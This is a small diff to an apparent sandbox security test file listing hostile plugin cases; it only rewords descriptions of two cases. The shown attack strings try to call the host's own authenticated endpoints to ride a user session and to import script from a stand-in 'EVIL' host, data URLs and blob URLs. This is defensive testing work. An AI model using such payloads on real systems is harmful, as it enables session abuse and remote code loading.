@@ -29,7 +29,7 @@ export const NETWORK: readonly HostilePlugin[] = [
   },
   {
     name: 'own-server',
-    tries: 'asks our own server, where the session would answer',
+    tries: 'calls our server, which would accept the session',
     attack: `
       const own = new URL('/', import.meta.url).origin
       for (const path of ['/account/api/v1/plugins/', '/presence/api/v1/auth/user', '/tenant.json', '/apart/frame.html'])
@@ -42,7 +42,7 @@ export const NETWORK: readonly HostilePlugin[] = [
   },
   {
     name: 'scripts',
-    tries: 'loads code from elsewhere, of data and blob addresses, and from text',
+    tries: 'loads code from other hosts, data and blob URLs, and text',
     attack: `
       const blob = URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))
       for (const address of [EVIL + '/import.js', 'data:text/javascript,export default 1', blob])
